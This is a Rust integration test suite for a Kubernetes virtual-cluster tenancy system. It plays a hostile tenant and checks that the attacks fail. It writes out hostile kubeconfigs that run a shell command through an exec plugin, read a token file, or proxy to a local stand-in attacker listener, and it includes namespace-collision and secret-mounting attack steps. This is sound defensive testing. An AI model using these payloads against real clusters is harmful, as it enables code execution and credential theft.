//! Hard multi-tenancy against a hostile tenant and a hostile VirtualCluster editor (issue 13: "Our own
//! credentials" and "Names"). Each test is written as the attacker would try it, against real etcd and
//! kube-apiserver processes with vc-manager and the syncer running in process, and checks that the attack
//! changes nothing outside the attacker's own tenant:
//!
//! - `an_adopted_kubeconfig_is_data_not_a_recipe`: kubeconfigs that run a program, read a file (the
//!   components' own service-account token), or use a proxy are refused by field; nothing runs, nothing is
//!   read, no connection is made.
//! - `adopt_annotations_cannot_switch_a_provisioned_virtual_cluster`: the original project's adopt
//!   annotations added to a provisioned VirtualCluster change nothing.
//! - `the_admin_kubeconfig_is_found_by_identity_not_by_status`: a status that names another tenant's root
//!   namespace does not make the syncer (or `kubectl vc`) use that tenant's admin kubeconfig.
//! - `a_tenant_cannot_take_over_super_namespaces_it_does_not_own`: tenant namespaces named to land on a
//!   platform namespace, another VirtualCluster's root namespace, or a namespace of the same tenant after
//!   shortening are refused with `NameCollision`, and nothing of them is written.
//! - `a_tenant_replaced_behind_its_kubeconfig_keeps_its_super_objects`: a kubeconfig swapped to another
//!   cluster, or a tenant whose etcd was wiped, stops syncing with `TenantIdentityChanged` instead of
//!   deleting what the tenant runs; removing the identity annotation accepts the new tenant.

use std::{
    collections::BTreeMap,
    sync::{
        Arc,
        atomic::{AtomicUsize, Ordering},
    },
    time::Duration,
};

use crate::vc_manager_support::{RunningManager, condition, fast_settings, init_logging, wait_vc};
use anyhow::{Context as _, bail};
use base64::{Engine, engine::general_purpose::STANDARD};
use clap::Parser;
use crds::{
    KubeconfigSecretRef, VirtualCluster, VirtualClusterSpec,
    wellknown::{self, CONDITION_APISERVER_READY, CONDITION_TENANT_SYNCED},
};
use k8s_openapi::{
    ByteString,
    api::{
        core::v1::{ConfigMap, Namespace, Pod, Secret, ServiceAccount},
        events::v1::Event,
    },
    apimachinery::pkg::apis::meta::v1::Condition,
};
use kube::{
    Api, Client, Resource, ResourceExt,
    api::{ObjectMeta, Patch, PatchParams, PostParams},
};
use local_cluster::{
    Binary, ControlPlane, ControlPlaneOptions, Etcd,
    tenancy::{Tenancy, TenancyOptions, TenantMaster, VC_NAMESPACE},
    wait,
};
use serde_json::json;
use syncer::{Metrics, Syncer, SyncerConfig};
use vc_runtime::admin::Health;

const NEEDS: &[Binary] = &[Binary::Etcd, Binary::KubeApiserver];

// Spelled out rather than imported, so that this file also builds against the code before issue 13 and
// shows each attack succeeding there.
/// `crds::wellknown::ANNOTATION_TENANT_IDENTITY`.
const ANNOTATION_TENANT_IDENTITY: &str = "tenancy.x-k8s.io/tenant-kube-system-uid";

/// `status.mode` of a VirtualCluster, as written.
fn mode(vc: &VirtualCluster) -> Option<String> {
    serde_json::to_value(vc).ok()?["status"]["mode"]
        .as_str()
        .map(str::to_owned)
}
const PATIENCE: Duration = Duration::from_secs(60);

fn syncer_config() -> SyncerConfig {
    SyncerConfig {
        patrol_interval: Duration::from_secs(2),
        vnode_grace: Duration::from_secs(3),
        tenant_health_period: Duration::from_secs(2),
        downward_workers: 4,
        upward_workers: 4,
        token_ttl_seconds: 600,
        ..SyncerConfig::for_tests()
    }
}

async fn start_syncer(client: Client) -> anyhow::Result<Syncer> {
    Ok(Syncer::start(
        client,
        syncer_config(),
        Arc::new(Metrics::default()),
        Health::new(),
    )
    .await?)
}

/// A super cluster (apiserver on its own etcd) with the CRDs installed.
async fn super_cluster() -> anyhow::Result<(Arc<Etcd>, ControlPlane)> {
    let etcd = Arc::new(Etcd::start().await?);
    let super_cluster = ControlPlane::start_on(etcd.clone(), ControlPlaneOptions::bare("super")).await?;
    local_cluster::install_crds(&super_cluster.client()).await?;
    Ok((etcd, super_cluster))
}

fn adopting(name: &str, secret: &str) -> VirtualCluster {
    VirtualCluster::new(
        name,
        VirtualClusterSpec {
            kubeconfig_secret_ref: Some(KubeconfigSecretRef {
                name: secret.into(),
                key: "value".into(),
            }),
            ..Default::default()
        },
    )
}

fn provisioned(name: &str) -> VirtualCluster {
    VirtualCluster::new(
        name,
        VirtualClusterSpec {
            cluster_version_name: Some("does-not-exist".into()),
            ..Default::default()
        },
    )
}

fn secret(name: &str, key: &str, value: &str) -> Secret {
    Secret {
        metadata: ObjectMeta {
            name: Some(name.into()),
            // Meant for the VirtualCluster it is named after (`<name>-kubeconfig`), as an adopted
            // tenant's kubeconfig Secret must say.
            labels: name
                .strip_suffix("-kubeconfig")
                .map(|vc| [(crds::wellknown::LABEL_KUBECONFIG_FOR.to_owned(), vc.to_owned())].into()),
            ..Default::default()
        },
        data: Some([(key.to_owned(), ByteString(value.as_bytes().to_vec()))].into()),
        ..Default::default()
    }
}

async fn create<K>(api: &Api<K>, object: &K) -> anyhow::Result<K>
where
    K: Resource + Clone + serde::Serialize + serde::de::DeserializeOwned + std::fmt::Debug,
{
    api.create(&PostParams::default(), object)
        .await
        .with_context(|| format!("creating {}", object.meta().name.clone().unwrap_or_default()))
}

fn from_json<K: serde::de::DeserializeOwned>(value: serde_json::Value) -> K {
    serde_json::from_value(value).expect("object")
}

/// Waits until the syncer's `TenantSynced` condition has `reason`; returns it.
async fn tenant_synced(
    vcs: &Api<VirtualCluster>,
    name: &str,
    reason: &'static str,
) -> anyhow::Result<Condition> {
    let vc = wait_vc(vcs, name, PATIENCE, &format!("TenantSynced {reason}"), |vc| {
        condition(vc, CONDITION_TENANT_SYNCED).is_some_and(|c| c.reason == reason)
    })
    .await?;
    condition(&vc, CONDITION_TENANT_SYNCED)
        .cloned()
        .context("TenantSynced")
}

/// Waits for an events.k8s.io event with `reason` about the object called `regarding` in `namespace`.
async fn event(client: &Client, namespace: &str, regarding: &str, reason: &str) -> anyhow::Result<Event> {
    let api: Api<Event> = Api::namespaced(client.clone(), namespace);
    let found = wait::until(PATIENCE, &format!("event {reason} about {regarding}"), || {
        let api = api.clone();
        async move {
            api.list(&Default::default())
                .await
                .ok()?
                .items
                .into_iter()
                .find(|e| {
                    e.reason.as_deref() == Some(reason)
                        && e.regarding.as_ref().and_then(|r| r.name.as_deref()) == Some(regarding)
                })
        }
    })
    .await?;
    Ok(found)
}

/// `kubectl vc <args>` in process, as the plugin binary runs it: its error, as one line.
async fn kubectl_vc(client: Client, args: &[&str]) -> anyhow::Result<Result<String, String>> {
    let args = kubectl_vc::Args::try_parse_from(["kubectl-vc", "-n", VC_NAMESPACE].iter().chain(args))?;
    let (mut out, mut err) = (Vec::new(), Vec::new());
    let result = kubectl_vc::run(&args, client, &mut out, &mut err).await;
    Ok(match result {
        Ok(()) => Ok(String::from_utf8(out)?),
        Err(error) => Err(error.one_line()),
    })
}

/// A TCP listener standing for a server the attacker controls: it counts who connects.
async fn attacker_listener() -> anyhow::Result<(u16, Arc<AtomicUsize>)> {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await?;
    let port = listener.local_addr()?.port();
    let connections = Arc::new(AtomicUsize::new(0));
    let counted = connections.clone();
    tokio::spawn(async move {
        while let Ok((stream, _)) = listener.accept().await {
            counted.fetch_add(1, Ordering::SeqCst);
            drop(stream);
        }
    });
    Ok((port, connections))
}

fn hostile_kubeconfig(cluster: &str, user: &str) -> String {
    format!(
        "apiVersion: v1
kind: Config
clusters: [{{name: attacker, cluster: {{{cluster}}}}}]
users: [{{name: attacker, user: {{{user}}}}}]
contexts: [{{name: attacker, context: {{cluster: attacker, user: attacker}}}}]
current-context: attacker
"
    )
}

/// A VirtualCluster editor adopts "clusters" whose kubeconfigs ask the components to run a program, to
/// send a file (here: a stand-in for the components' own service-account token) to the attacker's server,
/// to read a local file as a CA, or to go through the attacker's proxy.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn an_adopted_kubeconfig_is_data_not_a_recipe() -> anyhow::Result<()> {
    if !local_cluster::require("an_adopted_kubeconfig_is_data_not_a_recipe", NEEDS) {
        return Ok(());
    }
    init_logging();
    let (_etcd, super_cluster) = super_cluster().await?;
    let client = super_cluster.client();
    let _manager = RunningManager::start(client.clone(), fast_settings(), None).await?;
    let _syncer = start_syncer(client.clone()).await?;
    let (port, connections) = attacker_listener().await?;
    let loot = tempfile::tempdir()?;
    let marker = loot.path().join("the-program-ran");
    let token = loot.path().join("token");
    std::fs::write(&token, "the-syncers-own-service-account-token")?;
    let server = format!("server: 'https://127.0.0.1:{port}'");
    let cases = [
        (
            "run-a-program",
            hostile_kubeconfig(
                &server,
                &format!(
                    "exec: {{apiVersion: client.authentication.k8s.io/v1, command: /bin/sh, args: [-c, 'touch {}'], interactiveMode: Never}}",
                    marker.display()
                ),
            ),
            "users[attacker].exec",
        ),
        (
            "steal-a-token",
            hostile_kubeconfig(&server, &format!("tokenFile: {}", token.display())),
            "users[attacker].tokenFile",
        ),
        (
            "read-a-file",
            hostile_kubeconfig(
                &format!("{server}, certificate-authority: {}", token.display()),
                "token: x",
            ),
            "clusters[attacker].certificate-authority",
        ),
        (
            "use-a-proxy",
            hostile_kubeconfig(
                &format!("server: 'https://tenant.example:6443', proxy-url: 'http://127.0.0.1:{port}'"),
                "token: x",
            ),
            "clusters[attacker].proxy-url",
        ),
    ];
    let vcs: Api<VirtualCluster> = Api::namespaced(client.clone(), VC_NAMESPACE);
    let secrets: Api<Secret> = Api::namespaced(client.clone(), VC_NAMESPACE);
    for (name, kubeconfig, _) in &cases {
        create(
            &secrets,
            &secret(&format!("{name}-kubeconfig"), "value", kubeconfig),
        )
        .await?;
        create(&vcs, &adopting(name, &format!("{name}-kubeconfig"))).await?;
    }
    // Give the components time for a few attempts: nothing ran, nothing was sent.
    tokio::time::sleep(Duration::from_secs(5)).await;
    assert!(!marker.exists(), "a component ran the kubeconfig's program");
    assert_eq!(
        connections.load(Ordering::SeqCst),
        0,
        "a component connected to the attacker's server or proxy"
    );
    for (name, _, field) in &cases {
        // vc-manager: the condition and a Warning event name the field.
        let vc = wait_vc(&vcs, name, PATIENCE, "APIServerReady KubeconfigRefused", |vc| {
            condition(vc, CONDITION_APISERVER_READY).is_some_and(|c| c.reason == "KubeconfigRefused")
        })
        .await?;
        let message = &condition(&vc, CONDITION_APISERVER_READY)
            .context("condition")?
            .message;
        assert!(message.contains(field), "{name}: {message}");
        let warning = event(&client, VC_NAMESPACE, name, "KubeconfigRefused").await?;
        assert_eq!(warning.type_.as_deref(), Some("Warning"));
        // The syncer: the same.
        let synced = tenant_synced(&vcs, name, "KubeconfigRefused").await?;
        assert!(synced.message.contains(field), "{name}: {}", synced.message);
    }
    // kubectl vc does not hand such a kubeconfig to a person either.
    let printed = kubectl_vc(client.clone(), &["kubeconfig", "run-a-program"]).await?;
    let error = printed.expect_err("refused");
    assert!(error.contains("users[attacker].exec"), "{error}");
    assert!(!marker.exists(), "a component ran the kubeconfig's program");
    assert_eq!(connections.load(Ordering::SeqCst), 0);
    Ok(())
}

/// A VirtualCluster editor adds the original project's adopt annotations to a provisioned VirtualCluster,
/// pointing at a cluster the attacker runs.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn adopt_annotations_cannot_switch_a_provisioned_virtual_cluster() -> anyhow::Result<()> {
    if !local_cluster::require(
        "adopt_annotations_cannot_switch_a_provisioned_virtual_cluster",
        NEEDS,
    ) {
        return Ok(());
    }
    init_logging();
    let (etcd, super_cluster) = super_cluster().await?;
    let attacker = ControlPlane::start_on(etcd.clone(), ControlPlaneOptions::bare("attacker")).await?;
    let namespaces: Api<Namespace> = Api::all(attacker.client());
    create(&namespaces, &from_json(json!({"metadata": {"name": "loot"}}))).await?;
    let client = super_cluster.client();
    let _manager = RunningManager::start(client.clone(), fast_settings(), None).await?;
    let _syncer = start_syncer(client.clone()).await?;
    let vcs: Api<VirtualCluster> = Api::namespaced(client.clone(), VC_NAMESPACE);
    let secrets: Api<Secret> = Api::namespaced(client.clone(), VC_NAMESPACE);

    // A provisioned tenant (its ClusterVersion is missing, so it stays in Error: enough for the mode).
    create(&vcs, &provisioned("prod")).await?;
    let vc = wait_vc(&vcs, "prod", PATIENCE, "ClusterVersionNotFound", |vc| {
        vc.status.as_ref().and_then(|s| s.reason.as_deref()) == Some("ClusterVersionNotFound")
    })
    .await?;
    let key = crds::naming::cluster_key_of(&vc).context("key")?;
    let reason_before = vc.status.as_ref().and_then(|s| s.reason.clone());

    // The attack: both annotations, naming a working kubeconfig of the attacker's cluster.
    let kubeconfig = attacker.apiserver().admin_kubeconfig();
    create(&secrets, &secret("attacker-kubeconfig", "value", &kubeconfig)).await?;
    vcs.patch(
        "prod",
        &PatchParams::default(),
        &Patch::Merge(json!({"metadata": {"annotations": {
            wellknown::ANNOTATION_ADMIN_KUBECONFIG: STANDARD.encode(&kubeconfig),
            wellknown::ANNOTATION_SECRET_ADMIN_KUBECONFIG: "attacker-kubeconfig",
        }}})),
    )
    .await?;
    // Several adopt checks and syncer health periods later: still provisioned, never attached.
    tokio::time::sleep(Duration::from_secs(6)).await;
    let vc = vcs.get("prod").await?;
    let status = vc.status.clone().context("status")?;
    assert_eq!(status.reason, reason_before, "{status:?}");
    assert!(
        condition(&vc, CONDITION_APISERVER_READY).is_none_or(|c| c.reason != "Reachable"),
        "vc-manager adopted the attacker's cluster: {status:?}"
    );
    assert!(
        condition(&vc, CONDITION_TENANT_SYNCED).is_none(),
        "the syncer attached it: {status:?}"
    );
    let super_namespaces: Api<Namespace> = Api::all(client.clone());
    assert!(
        super_namespaces
            .get_opt(&crds::naming::super_namespace(&key, "loot"))
            .await?
            .is_none(),
        "the attacker's namespace was synced as this tenant's"
    );
    // The mode was fixed at the first reconcile, and whoever looks is told why the annotations do nothing.
    assert_eq!(mode(&vc).as_deref(), Some("Provisioned"));
    let warning = event(&client, VC_NAMESPACE, "prod", "AdoptAnnotationIgnored").await?;
    assert_eq!(warning.type_.as_deref(), Some("Warning"));
    assert!(
        warning
            .note
            .as_deref()
            .unwrap_or_default()
            .contains(wellknown::ANNOTATION_ADMIN_KUBECONFIG),
        "{warning:?}"
    );
    Ok(())
}

/// Someone who can write VirtualCluster status points a provisioned VirtualCluster's
/// `status.clusterNamespace` at another tenant's root namespace, hoping the syncer attaches the other
/// tenant's cluster as theirs (and `kubectl vc kubeconfig` prints its admin kubeconfig).
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn the_admin_kubeconfig_is_found_by_identity_not_by_status() -> anyhow::Result<()> {
    if !local_cluster::require("the_admin_kubeconfig_is_found_by_identity_not_by_status", NEEDS) {
        return Ok(());
    }
    init_logging();
    let (etcd, super_cluster) = super_cluster().await?;
    let victim = ControlPlane::start_on(etcd.clone(), ControlPlaneOptions::bare("victim")).await?;
    let victim_namespaces: Api<Namespace> = Api::all(victim.client());
    create(
        &victim_namespaces,
        &from_json(json!({"metadata": {"name": "payroll"}})),
    )
    .await?;
    let client = super_cluster.client();
    let vcs: Api<VirtualCluster> = Api::namespaced(client.clone(), VC_NAMESPACE);
    let namespaces: Api<Namespace> = Api::all(client.clone());

    // The victim: a provisioned tenant whose root namespace holds its admin kubeconfig, as vc-manager
    // leaves it (written here directly; vc-manager would need real nodes to run its control plane).
    let victim_vc = create(&vcs, &provisioned("victim")).await?;
    let victim_root = crds::naming::cluster_key_of(&victim_vc).context("key")?;
    create(
        &namespaces,
        &from_json(json!({"metadata": {"name": victim_root, "annotations": {
            "tenancy.x-k8s.io/vcrootns": "true", "tenancy.x-k8s.io/cluster": victim_root,
            "tenancy.x-k8s.io/vcname": "victim", "tenancy.x-k8s.io/vcnamespace": VC_NAMESPACE,
            "tenancy.x-k8s.io/vcuid": victim_vc.uid()}}})),
    )
    .await?;
    let victim_kubeconfig = victim.apiserver().admin_kubeconfig();
    create(
        &Api::namespaced(client.clone(), &victim_root),
        &secret(
            wellknown::SECRET_ADMIN_KUBECONFIG,
            wellknown::SECRET_ADMIN_KUBECONFIG,
            &victim_kubeconfig,
        ),
    )
    .await?;

    // The attack: a provisioned VirtualCluster whose status says it runs, in the victim's root namespace.
    let intruder = create(&vcs, &provisioned("intruder")).await?;
    let intruder_root = crds::naming::cluster_key_of(&intruder).context("key")?;
    vcs.patch_status(
        "intruder",
        &PatchParams::default(),
        &Patch::Merge(
            json!({"status": {"phase": "Running", "clusterNamespace": victim_root, "mode": "Provisioned"}}),
        ),
    )
    .await?;
    let _syncer = start_syncer(client.clone()).await?;
    tokio::time::sleep(Duration::from_secs(5)).await;
    assert!(
        namespaces
            .get_opt(&crds::naming::super_namespace(&intruder_root, "payroll"))
            .await?
            .is_none(),
        "the victim's namespace was synced as the intruder's"
    );
    let missing = tenant_synced(&vcs, "intruder", "KubeconfigMissing").await?;
    assert!(
        missing
            .message
            .contains(&format!("{intruder_root}/{}", wellknown::SECRET_ADMIN_KUBECONFIG)),
        "{}",
        missing.message
    );
    let printed = kubectl_vc(client.clone(), &["kubeconfig", "intruder"]).await?;
    match printed {
        Ok(out) => bail!("kubectl vc printed a kubeconfig for the intruder:\n{out}"),
        Err(error) => {
            assert!(error.contains(&intruder_root), "{error}");
            assert!(!error.contains(victim.apiserver().url()), "{error}");
        }
    }
    Ok(())
}

/// A pod that mounts Secret `secret` of its namespace.
fn pod_mounting(secret: &str) -> Pod {
    from_json(json!({
        "metadata": {"name": "thief"},
        "spec": {
            "automountServiceAccountToken": false,
            "containers": [{"name": "main", "image": "busybox", "volumeMounts": [{"name": "s", "mountPath": "/s"}]}],
            "volumes": [{"name": "s", "secret": {"secretName": secret}}]
        }
    }))
}

/// Creates tenant namespace `name` with a `default` ServiceAccount (the tenant runs no controller-manager).
async fn tenant_namespace(tenant: &TenantMaster, name: &str) -> anyhow::Result<()> {
    let client = tenant.client();
    create(
        &Api::<Namespace>::all(client.clone()),
        &from_json(json!({"metadata": {"name": name}})),
    )
    .await?;
    create(
        &Api::<ServiceAccount>::namespaced(client, name),
        &from_json(json!({"metadata": {"name": "default"}})),
    )
    .await?;
    Ok(())
}

async fn config_map(client: Client, namespace: &str, name: &str, value: &str) -> anyhow::Result<ConfigMap> {
    create(
        &Api::<ConfigMap>::namespaced(client, namespace),
        &from_json(json!({"metadata": {"name": name}, "data": {"value": value}})),
    )
    .await
}

fn annotations(namespace: &Namespace) -> BTreeMap<String, String> {
    namespace.metadata.annotations.clone().unwrap_or_default()
}

/// A tenant names namespaces so that they land on super namespaces that are not theirs: one the platform
/// made, another VirtualCluster's root namespace (holding its kubelet-client key), and one of its own
/// namespaces after shortening.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn a_tenant_cannot_take_over_super_namespaces_it_does_not_own() -> anyhow::Result<()> {
    if !local_cluster::require(
        "a_tenant_cannot_take_over_super_namespaces_it_does_not_own",
        NEEDS,
    ) {
        return Ok(());
    }
    init_logging();
    let tenancy = Tenancy::start(TenancyOptions {
        tenants: 1,
        nodes: 1,
        tenant_controller_managers: false,
        super_controller_manager: false,
        ..Default::default()
    })
    .await?;
    let client = tenancy.super_client();
    let tenant = tenancy.tenant("tenant-0");
    let key = tenant.cluster_key.clone();
    let namespaces: Api<Namespace> = Api::all(client.clone());

    // The platform's namespace, named (by bad luck or design) like one of the tenant's.
    let platform = format!("{key}-teams");
    create(
        &namespaces,
        &from_json(json!({"metadata": {"name": platform, "labels": {"team": "platform"}}})),
    )
    .await?;
    config_map(client.clone(), &platform, "settings", "platform").await?;
    // A VirtualCluster in it: its root namespace is `<platform>-<hash>-victim`, with its kubelet-client
    // Secret (made here as vc-manager makes it).
    let victim = create(
        &Api::<VirtualCluster>::namespaced(client.clone(), &platform),
        &adopting("victim", "victim-kubeconfig"),
    )
    .await?;
    let victim_root = crds::naming::cluster_key_of(&victim).context("key")?;
    create(
        &namespaces,
        &from_json(json!({"metadata": {"name": victim_root,
            "labels": {"app.kubernetes.io/managed-by": "vc-manager"},
            "annotations": {"tenancy.x-k8s.io/vcrootns": "true", "tenancy.x-k8s.io/cluster": victim_root,
                "tenancy.x-k8s.io/vcname": "victim", "tenancy.x-k8s.io/vcnamespace": platform,
                "tenancy.x-k8s.io/vcuid": victim.uid()}}})),
    )
    .await?;
    create(
        &Api::<Secret>::namespaced(client.clone(), &victim_root),
        &secret(
            wellknown::SECRET_KUBELET_CLIENT,
            "tls.key",
            "the victim's private key",
        ),
    )
    .await?;
    let victim_tail = victim_root[key.len() + 1..].to_owned();
    assert_eq!(tenant.super_namespace(&victim_tail), victim_root);

    let _syncer = start_syncer(client.clone()).await?;
    tenant_synced(
        &Api::namespaced(client.clone(), VC_NAMESPACE),
        "tenant-0",
        "TenantAttached",
    )
    .await?;

    // A long namespace of the tenant's own, synced first.
    let long = format!("long-{}", "n".repeat(58));
    let long_super = tenant.super_namespace(&long);
    tenant_namespace(tenant, &long).await?;
    config_map(tenant.client(), &long, "x", "long").await?;
    let super_config_maps: Api<ConfigMap> = Api::namespaced(client.clone(), &long_super);
    let original = wait::until(PATIENCE, "the long namespace's ConfigMap synced", || {
        let api = super_config_maps.clone();
        async move { api.get_opt("x").await.ok().flatten() }
    })
    .await?;

    // The attack.
    let tail = long_super[key.len() + 1..].to_owned();
    assert_eq!(tenant.super_namespace(&tail), long_super);
    for name in ["teams", victim_tail.as_str(), tail.as_str()] {
        tenant_namespace(tenant, name).await?;
        config_map(tenant.client(), name, "x", "attacker").await?;
        config_map(tenant.client(), name, "settings", "attacker").await?;
        create(
            &Api::<Pod>::namespaced(tenant.client(), name),
            &pod_mounting(wellknown::SECRET_KUBELET_CLIENT),
        )
        .await?;
    }
    // Patrols and retries later, nothing of the attacker's namespaces is anywhere.
    tokio::time::sleep(Duration::from_secs(6)).await;

    let platform_now = namespaces.get(&platform).await?;
    assert_eq!(
        annotations(&platform_now),
        BTreeMap::new(),
        "the platform namespace was taken over"
    );
    assert_eq!(
        platform_now.labels().get("team").map(String::as_str),
        Some("platform")
    );
    assert!(!platform_now.labels().contains_key(wellknown::LABEL_VC_NAME));
    let settings = Api::<ConfigMap>::namespaced(client.clone(), &platform)
        .get("settings")
        .await?;
    assert_eq!(
        settings.data.and_then(|d| d.get("value").cloned()).as_deref(),
        Some("platform")
    );

    let root_now = namespaces.get(&victim_root).await?;
    assert_eq!(
        annotations(&root_now).get(wellknown::ANNOTATION_CLUSTER),
        Some(&victim_root),
        "the root namespace was taken over"
    );
    assert!(!annotations(&root_now).contains_key(wellknown::ANNOTATION_NAMESPACE));

    let kept = super_config_maps.get("x").await?;
    assert_eq!(
        kept.uid(),
        original.uid(),
        "the first namespace's ConfigMap was replaced"
    );
    assert_eq!(
        kept.data
            .as_ref()
            .and_then(|d| d.get("value"))
            .map(String::as_str),
        Some("long")
    );
    assert_eq!(
        kept.annotations().get(wellknown::ANNOTATION_NAMESPACE),
        Some(&long)
    );

    for super_name in [&platform, &victim_root, &long_super] {
        let pods = Api::<Pod>::namespaced(client.clone(), super_name)
            .list(&Default::default())
            .await?;
        assert!(
            pods.items.is_empty(),
            "a pod of the attacker's was created in {super_name}"
        );
        let settings = Api::<ConfigMap>::namespaced(client.clone(), super_name)
            .get_opt("settings")
            .await?;
        assert!(
            settings
                .is_none_or(|s| s.data.and_then(|d| d.get("value").cloned()).as_deref() != Some("attacker")),
            "the attacker's ConfigMap reached {super_name}"
        );
    }
    // The tenant is told, on each namespace.
    for name in ["teams", victim_tail.as_str(), tail.as_str()] {
        let collision = event(&tenant.client(), "default", name, "NameCollision").await?;
        assert_eq!(collision.type_.as_deref(), Some("Warning"));
    }
    // Shortened names end in 64 bits of hash: finding another name that shortens to the same one (to
    // land on another tenant's shortened namespace) is out of reach.
    let hash = long_super.rsplit('-').next().unwrap_or_default();
    assert_eq!(hash.len(), 16, "{long_super}");
    assert!(hash.chars().all(|c| c.is_ascii_hexdigit()), "{long_super}");
    Ok(())
}

/// The tenant's kube-system uid.
async fn kube_system_uid(client: Client) -> anyhow::Result<String> {
    Api::<Namespace>::all(client)
        .get("kube-system")
        .await?
        .uid()
        .context("uid")
}

/// Whether tenant-0's workload is still in the super cluster, untouched.
async fn still_there(client: &Client, super_namespace: &str) -> anyhow::Result<()> {
    let namespace = Api::<Namespace>::all(client.clone()).get(super_namespace).await?;
    anyhow::ensure!(
        namespace.metadata.deletion_timestamp.is_none(),
        "{super_namespace} is being deleted"
    );
    Api::<ConfigMap>::namespaced(client.clone(), super_namespace)
        .get("data")
        .await
        .context("the ConfigMap is gone")?;
    let pod = Api::<Pod>::namespaced(client.clone(), super_namespace)
        .get("app")
        .await
        .context("the pod is gone")?;
    anyhow::ensure!(
        pod.metadata.deletion_timestamp.is_none(),
        "the pod is being deleted"
    );
    Ok(())
}

/// The VirtualCluster editor swaps a tenant's kubeconfig for another cluster's; later the tenant's etcd is
/// wiped behind the same address. Neither may delete what the tenant runs in the super cluster.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn a_tenant_replaced_behind_its_kubeconfig_keeps_its_super_objects() -> anyhow::Result<()> {
    if !local_cluster::require(
        "a_tenant_replaced_behind_its_kubeconfig_keeps_its_super_objects",
        NEEDS,
    ) {
        return Ok(());
    }
    init_logging();
    let mut tenancy = Tenancy::start(TenancyOptions {
        tenants: 2,
        nodes: 1,
        tenant_controller_managers: false,
        super_controller_manager: false,
        ..Default::default()
    })
    .await?;
    let client = tenancy.super_client();
    let vcs: Api<VirtualCluster> = Api::namespaced(client.clone(), VC_NAMESPACE);
    let (victim, other) = (tenancy.tenant("tenant-0"), tenancy.tenant("tenant-1"));
    let work = victim.super_namespace("work");
    let elsewhere = victim.super_namespace("other");
    tenant_namespace(victim, "work").await?;
    config_map(victim.client(), "work", "data", "precious").await?;
    create(
        &Api::<Pod>::namespaced(victim.client(), "work"),
        &from_json(
            json!({"metadata": {"name": "app"}, "spec": {"automountServiceAccountToken": false,
            "containers": [{"name": "main", "image": "busybox"}]}}),
        ),
    )
    .await?;
    tenant_namespace(other, "other").await?;
    let good = victim.control_plane.apiserver().admin_kubeconfig();
    let stranger = other.control_plane.apiserver().admin_kubeconfig();
    let first_uid = kube_system_uid(victim.client()).await?;

    let _syncer = start_syncer(client.clone()).await?;
    wait::until(PATIENCE, "tenant-0's workload synced", || {
        let (client, work) = (client.clone(), work.clone());
        async move { still_there(&client, &work).await.ok() }
    })
    .await?;

    // Attack 1: the kubeconfig now leads to another cluster.
    tenancy.write_kubeconfig("tenant-0-kubeconfig", &stranger).await?;
    tokio::time::sleep(Duration::from_secs(6)).await;
    still_there(&client, &work).await?;
    assert!(
        Api::<Namespace>::all(client.clone())
            .get_opt(&elsewhere)
            .await?
            .is_none(),
        "the other cluster's namespace was synced as tenant-0's"
    );
    let changed = tenant_synced(&vcs, "tenant-0", "TenantIdentityChanged").await?;
    assert!(changed.message.contains(&first_uid), "{}", changed.message);
    let vc = vcs.get("tenant-0").await?;
    assert_eq!(
        vc.annotations().get(ANNOTATION_TENANT_IDENTITY),
        Some(&first_uid),
        "the identity recorded at the first attachment stays"
    );
    // Put back, it syncs again.
    tenancy.write_kubeconfig("tenant-0-kubeconfig", &good).await?;
    tenant_synced(&vcs, "tenant-0", "TenantAttached").await?;

    // Attack 2: the tenant's etcd is wiped; its apiserver comes back empty at the same address.
    let etcd = tenancy.etcd.clone();
    let apiserver = tenancy.tenant_mut("tenant-0").control_plane.apiserver_mut();
    apiserver.stop();
    let deleted = etcd.delete_prefix("/tenant-0/").await?;
    assert!(deleted > 0, "nothing deleted from etcd");
    apiserver.restart().await?;
    let victim = tenancy.tenant("tenant-0");
    let new_uid = kube_system_uid(victim.client()).await?;
    assert_ne!(new_uid, first_uid);
    tokio::time::sleep(Duration::from_secs(6)).await;
    still_there(&client, &work).await?;
    tenant_synced(&vcs, "tenant-0", "TenantIdentityChanged").await?;
    still_there(&client, &work).await?;

    // The platform admin accepts the new tenant by removing the annotation: it is synced (and what the
    // earlier tenant had goes, deliberately).
    vcs.patch(
        "tenant-0",
        &PatchParams::default(),
        &Patch::Merge(json!({"metadata": {"annotations": {ANNOTATION_TENANT_IDENTITY: null}}})),
    )
    .await?;
    tenant_synced(&vcs, "tenant-0", "TenantAttached").await?;
    let vc = vcs.get("tenant-0").await?;
    assert_eq!(vc.annotations().get(ANNOTATION_TENANT_IDENTITY), Some(&new_uid));
    Ok(())
}
